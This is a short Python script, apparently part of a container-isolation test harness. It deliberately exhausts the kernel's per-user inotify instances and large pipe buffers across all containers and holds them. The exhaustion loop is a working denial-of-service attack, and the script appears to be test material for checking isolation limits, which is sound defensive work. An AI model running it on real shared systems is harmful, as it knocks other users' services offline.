"""Take every inotify instance and every large pipe that the kernel gives to one user over all containers."""

import fcntl
import os

from attacker import attempt, hold, libc, tried

F_SETPIPE_SZ = 1031
kept = 0
while libc.inotify_init() >= 0:
    kept += 1
with attempt():
    for _ in range(200):
        reader, writer = os.pipe()
        fcntl.fcntl(writer, F_SETPIPE_SZ, 1 << 20)
print(f"took {kept} inotify instances", flush=True)
tried()
hold()
